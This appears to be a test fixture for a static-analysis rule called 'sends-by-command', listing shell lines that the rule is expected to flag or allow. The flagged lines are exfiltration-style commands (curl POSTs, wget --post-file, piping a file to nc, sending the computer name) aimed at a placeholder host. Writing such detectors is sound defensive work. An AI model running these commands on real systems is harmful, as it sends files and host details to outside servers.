# ruleid: sends-by-command
curl -s -d @- https://c.example.test
# ruleid: sends-by-command
wget --post-file=a https://c.example.test
# ruleid: sends-by-command
curl "https://c.example.test/$X"
# ruleid: sends-by-command
cat a | nc c.example.test 80
# ruleid: sends-by-command
curl -s "https://c.example.test/?c=%COMPUTERNAME%"
# ok: sends-by-command
curl -fsSL https://files.example.test/a.tar.gz -o a
# ok: sends-by-command
wget https://files.example.test/$VERSION.tar.gz
